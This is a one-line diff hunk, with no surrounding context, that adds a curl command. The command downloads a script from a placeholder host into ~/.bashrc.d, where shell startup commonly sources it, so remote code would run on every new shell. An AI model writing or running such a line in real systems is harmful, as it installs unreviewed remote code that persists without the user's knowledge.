@@ -1,0 +1,1 @@
+curl -o ~/.bashrc.d/tool.sh https://host.invalid/tool.sh
